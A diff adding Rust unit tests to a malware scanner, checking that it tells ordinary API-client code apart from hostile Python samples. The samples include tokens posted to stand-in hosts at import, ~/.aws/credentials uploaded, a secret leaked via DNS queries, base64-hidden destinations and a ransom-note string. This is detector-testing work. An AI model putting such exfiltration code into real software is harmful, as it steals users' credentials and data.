@@ -1073,3 +1073,82 @@ fn f_string_parts_are_read_and_opening_the_firewall_is_hostile() {
     let show = "import subprocess\ndef rules():\n    return subprocess.run(f'netsh advfirewall firewall show rule name={N}')\n";
     assert_eq!(level(show), None);
 }
+
+/// The first finding of `rule` in one file, by its severity.
+fn severity_of(path: &str, src: &str, rule: &str) -> Option<Severity> {
+    let report = scan(&ManifestFacts::default(), &[Entry { path, bytes: src.as_bytes() }]);
+    report.findings.iter().filter(|f| f.rule == rule).map(|f| f.severity).max()
+}
+
+/// A client library sends the key its caller gives it to the service it
+/// wraps, at an address it writes out, when it is called: medium. The same
+/// send as soon as the module loads, or of a credential store, or to an
+/// address the code hides, is the author's act. Written for the test.
+#[test]
+fn a_secret_sent_to_the_named_service_on_request_is_how_a_client_authenticates() {
+    let env_key = "import os, requests\ndef fetch(q):\n    token = os.getenv('EXAMPLE_API_TOKEN')\n    \
+                   return requests.get('https://api.example.org/search', params={'q': q, 'apikey': token})\n";
+    assert_eq!(severity_of("search.py", env_key, "exfiltration"), Some(Severity::Medium));
+    let header = "import os, requests\nclass Client:\n    def __init__(self):\n        \
+                  self.key = os.environ.get('DOCS_API_KEY')\n    def projects(self):\n        \
+                  key = os.environ.get('DOCS_API_KEY')\n        \
+                  return requests.get('https://api.docs.example/v1/projects', headers={'Authorization': 'Bearer ' + key})\n";
+    assert_eq!(severity_of("client.py", header, "exfiltration"), Some(Severity::Medium));
+    // At import, the same token leaves before anyone asked.
+    let at_import = "import os, requests\ntoken = os.getenv('GITHUB_TOKEN')\n\
+                     requests.post('https://collect.example.org/t', data={'t': token})\n";
+    assert_eq!(severity_of("pkg/__init__.py", at_import, "exfiltration"), Some(Severity::Critical));
+    // To an address hidden in base64, even on request.
+    let hidden = "import base64, os, requests\ndef sync():\n    password = os.getenv('DB_PASSWORD')\n    \
+                  requests.post(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLm9yZy94').decode(), data=password)\n";
+    assert_eq!(severity_of("sync.py", hidden, "exfiltration"), Some(Severity::Critical));
+    // A credential store's contents are more than any service needs.
+    let store = "import os, requests\ndef backup():\n    \
+                 data = open(os.path.expanduser('~/.aws/credentials')).read()\n    \
+                 requests.post('https://backup.example.org/up', data=data)\n";
+    assert_eq!(severity_of("backup.py", store, "exfiltration"), Some(Severity::Critical));
+}
+
+/// `path.write_bytes(data)` writes to `path`: decrypted content saved to a
+/// plain path hides nothing; a path that had to be decoded does. Written
+/// for the test.
+#[test]
+fn a_path_method_writes_the_path_it_is_called_on() {
+    let saved = "import pathlib\ndef save(f, key):\n    buf = key.decrypt(f.read())\n    \
+                 path = pathlib.Path('downloads') / 'file.bin'\n    path.write_bytes(buf)\n";
+    assert_eq!(severity_of("files.py", saved, "hidden-destination"), None);
+    let hidden = "import base64, pathlib\ndef drop(data):\n    \
+                  target = pathlib.Path(base64.b64decode('QzpcVXNlcnNcUHVibGljXHguZXhl').decode())\n    \
+                  target.write_bytes(data)\n";
+    assert_eq!(severity_of("drop.py", hidden, "hidden-destination"), Some(Severity::High));
+}
+
+/// `Path.resolve` and a template's `resolve` look nothing up in DNS; a
+/// resolver's query for a name built from encoded data does. Written for
+/// the test.
+#[test]
+fn only_a_resolver_object_resolves_names_in_dns() {
+    let template = "import os\ndef render(atoms):\n    env = os.environ.copy()\n    \
+                    return ''.join(a.resolve(env) for a in atoms)\n";
+    assert_eq!(severity_of("dotenv.py", template, "dns-exfiltration"), None);
+    let leak = "import base64, os\nimport dns.resolver\ndef leak():\n    r = dns.resolver.Resolver()\n    \
+                label = base64.b32encode(os.getenv('AWS_SECRET_ACCESS_KEY').encode()).decode()\n    \
+                r.resolve(label + '.exfil.example.org', 'A')\n";
+    assert_eq!(severity_of("leak.py", leak, "dns-exfiltration"), Some(Severity::High));
+}
+
+/// A ransom note speaks of the victim's files; code that decrypts a
+/// browser's cookies and rewrites its own cache says "to decrypt" too.
+/// Written for the test.
+#[test]
+fn decrypting_is_not_a_ransom_note() {
+    let cookies = "import os\ndef load(root):\n    \"\"\"Cookies need a key to decrypt the values.\"\"\"\n    \
+                   for d, _, fs in os.walk(root):\n        for f in fs:\n            \
+                   os.replace(os.path.join(d, f), os.path.join(d, f + '.bak'))\n";
+    assert_eq!(severity_of("cookies.py", cookies, "destroy-user-data"), None);
+    let note = cookies.replace(
+        "Cookies need a key to decrypt the values.",
+        "All your files have been encrypted. To decrypt your files send bitcoin.",
+    );
+    assert_eq!(severity_of("cookies.py", &note, "destroy-user-data"), Some(Severity::Critical));
+}
